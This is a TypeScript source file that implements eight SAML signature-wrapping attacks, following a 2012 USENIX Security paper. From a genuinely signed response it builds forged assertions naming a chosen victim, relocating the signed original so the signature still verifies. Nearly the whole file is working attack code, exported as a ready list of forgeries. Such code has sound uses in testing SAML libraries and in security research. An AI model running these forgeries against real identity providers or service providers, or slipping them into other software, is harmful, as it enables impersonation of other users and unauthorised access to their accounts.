// The eight ways of signature wrapping ("On Breaking SAML: Be Whoever You Want to Be", Somorovsky and others, USENIX Security 2012): the
// signed element stays somewhere in the document, so that its signature holds, and a forged one stands where a careless reader looks.

const SIGNATURE = /<ds:Signature[\s\S]*?<\/ds:Signature>/
const ASSERTION = /<saml:Assertion[\s\S]*<\/saml:Assertion>/

function part(xml: string, pattern: RegExp): string {
  const found = pattern.exec(xml)?.[0]
  if (found === undefined) throw new Error('the response is not of the kind that this attack needs')
  return found
}

/** The same with another person in it, another id and no signature. */
function forged(xml: string, victim: string): string {
  return xml
    .replace(SIGNATURE, '')
    .replace(/ ID="[^"]+"/, ' ID="_forged"')
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${victim}`)
}

function withSignature(xml: string, signature: string): string {
  return xml.replace('</saml:Issuer>', `</saml:Issuer>${signature}`)
}

function inside(signature: string, content: string): string {
  return signature.replace('</ds:Signature>', `${content}</ds:Signature>`)
}

export interface Wrapping {
  readonly name: string
  /** What must be signed for it. */
  readonly signs: 'response' | 'assertion'
  readonly attack: (response: string, victim: string) => string
}

function onResponse(attack: (forgery: string, signature: string, original: string) => string): Wrapping['attack'] {
  return (response, victim) => {
    const signature = part(response, SIGNATURE)
    return attack(forged(response, victim), signature, response.replace(signature, ''))
  }
}

function onAssertion(attack: (forgery: string, signed: string, signature: string, bare: string) => string): Wrapping['attack'] {
  return (response, victim) => {
    const signed = part(response, ASSERTION)
    const signature = part(signed, SIGNATURE)
    return response.replace(signed, attack(forged(signed, victim), signed, signature, signed.replace(signature, '')))
  }
}

export const wrappings: readonly Wrapping[] = [
  { name: 'the signed response inside the signature of a forged one', signs: 'response', attack: onResponse((forgery, signature, original) => withSignature(forgery, inside(signature, original))) },
  { name: 'the signed response beside its signature in a forged one', signs: 'response', attack: onResponse((forgery, signature, original) => withSignature(forgery, original + signature)) },
  { name: 'a forged assertion before the signed one', signs: 'assertion', attack: onAssertion((forgery, signed) => forgery + signed) },
  { name: 'a forged assertion around the signed one', signs: 'assertion', attack: onAssertion((forgery, signed) => forgery.replace('</saml:Assertion>', `${signed}</saml:Assertion>`)) },
  { name: 'the signature in a forged assertion, the signed one behind it', signs: 'assertion', attack: onAssertion((forgery, _signed, signature, bare) => withSignature(forgery, signature) + bare) },
  { name: 'the signature in a forged assertion, the signed one in the signature', signs: 'assertion', attack: onAssertion((forgery, _signed, signature, bare) => withSignature(forgery, inside(signature, bare))) },
  { name: 'a forged assertion among the extensions', signs: 'assertion', attack: onAssertion((forgery, signed) => `<samlp:Extensions>${forgery}</samlp:Extensions>${signed}`) },
  { name: 'the signed assertion in an object of the signature of a forged one', signs: 'assertion', attack: onAssertion((forgery, _signed, signature, bare) => withSignature(forgery, inside(signature, `<ds:Object>${bare}</ds:Object>`))) },
]
